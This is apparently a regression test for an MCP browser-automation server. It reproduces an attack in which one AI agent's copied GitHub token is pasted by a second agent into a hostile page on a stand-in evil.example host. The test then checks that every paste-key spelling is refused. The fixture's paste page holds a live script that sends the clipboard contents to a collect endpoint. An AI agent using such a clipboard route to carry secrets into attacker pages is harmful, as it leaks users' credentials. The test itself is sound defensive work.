// The browser's clipboard is one for all its contexts: every agent of `tabward mcp --http`, every recipe run of
// `serve`, and with a window the user's desktop. Attack review (several agents): agent A copied its token on
// github.com/settings/tokens (a page's "Copy" button: navigator.clipboard.writeText); agent B, which had read
// nothing sensitive and so held no taint, pressed Control+V into its own hostile page, which sent the token to
// evil.example; B's human was asked nothing. Pages cannot read the clipboard themselves (readText is refused,
// execCommand('paste') does nothing): the agent's paste keys were the way in, and they are refused now, in every
// spelling, for tools and recipes alike (core/activatingKeys.ts pasteKey). The test failed before.

import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { ScriptedHuman } from '../../src/demo/scriptedHuman.ts';
import { parseRecipe } from '../../src/recipes/parseRecipe.ts';
import { type Fixture, html, startFixture } from '../helpers/fixtureServer.ts';
import { refOf } from '../helpers/mcpClient.ts';
import { type Connected, clientsOf, startMcpHttp, stopAll } from '../helpers/mcpHttpClients.ts';
import type { RunningTabward } from '../helpers/tabwardProcess.ts';

const token = 'ghp_clientA_only_5521';
let site: Fixture;
let home: string;
let tabward: RunningTabward | undefined;
const open: Connected[] = [];
const { endpoint, token: bearer, call } = clientsOf(() => tabward as RunningTabward, open);

/** A client whose human answers its questions (elicitation). */
async function agent(name: string, human: ScriptedHuman): Promise<Client> {
  const client = new Client({ name, version: '1' }, { capabilities: { elicitation: {} } });
  human.attach(client);
  const transport = new StreamableHTTPClientTransport(new URL(endpoint()), {
    requestInit: { headers: { Authorization: `Bearer ${bearer()}` } },
  });
  await client.connect(transport);
  open.push({ client, transport });
  return client;
}

before(async () => {
  site = await startFixture(
    {
      '/settings/tokens': (_req, _body, res) =>
        html(
          res,
          `<title>Tokens</title><p>${token}</p><button id="c">Copy token</button>
          <script>c.onclick = () => navigator.clipboard.writeText(${JSON.stringify(token)}).then(() => document.title = 'copied')</script>`,
        ),
      '/collect': (_req, _body, res) => html(res, 'ok'),
      '/paste': (_req, _body, res) =>
        html(
          res,
          `<title>Paste here</title><label>Box <input id="box"></label><script>
          const send = (how, v) => fetch('/collect?how=' + how + '&v=' + encodeURIComponent(v), { mode: 'no-cors' });
          box.addEventListener('paste', (e) => send('paste', e.clipboardData.getData('text')));
          box.addEventListener('input', () => send('input', box.value));</script>`,
        ),
    },
    { tls: true },
  );
  home = mkdtempSync(join(tmpdir(), 'tabward-clipboard-'));
  tabward = await startMcpHttp(['--mode', 'isolated', '--approval-human-ms', '0', '--no-notify'], home);
});

after(async () => {
  await stopAll(tabward, open);
  await site?.close();
  rmSync(home, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
});

test("one agent's paste never reads what another agent's page copied", async () => {
  const humanA = new ScriptedHuman();
  humanA.policy = () => ({ decision: 'approve' });
  const humanB = new ScriptedHuman();
  humanB.policy = () => ({ decision: 'reject' });
  const a = await agent('agent-A', humanA);
  const b = await agent('agent-B', humanB);
  await call(a, 'new_page', { url: site.url('github.com', '/settings/tokens') });
  const copied = await call(a, 'click', { ref: refOf((await call(a, 'take_snapshot')).text, 'Copy token') });
  assert.equal(copied.isError, false, copied.text);
  assert.match((await call(a, 'list_pages')).text, /copied/, "A's page copied the token");
  await call(b, 'new_page', { url: site.url('evil.example', '/paste') });
  await call(b, 'click', { ref: refOf((await call(b, 'take_snapshot')).text, 'Box') });
  for (const key of [
    'Control+V',
    'Control+v',
    'ControlLeft+V',
    'Shift+Insert',
    'Meta+V',
    'ControlOrMeta+KeyV',
    'Control+Shift+V',
    'Paste',
  ]) {
    const pressed = await call(b, 'press_key', { key });
    assert.equal(pressed.isError, true, `${key}: ${pressed.text}`);
    assert.match(pressed.text, /Pasting is not available/, key);
  }
  await new Promise((resolve) => setTimeout(resolve, 500));
  const collected = site.seen.filter((request) => request.path.startsWith('/collect'));
  assert.deepEqual(
    collected.map((request) => request.path),
    [],
    "A's token reached B's page",
  );
  assert.doesNotMatch((await call(b, 'take_snapshot')).text, new RegExp(token));
});

test('a recipe that would paste is refused before any browser starts', () => {
  assert.throws(
    () =>
      parseRecipe({
        version: 1,
        name: 'paste',
        url: 'https://evil.example/paste',
        steps: [{ action: 'press', selector: '#box', key: 'Control+V' }],
      }),
    /Pasting is not available/,
  );
});
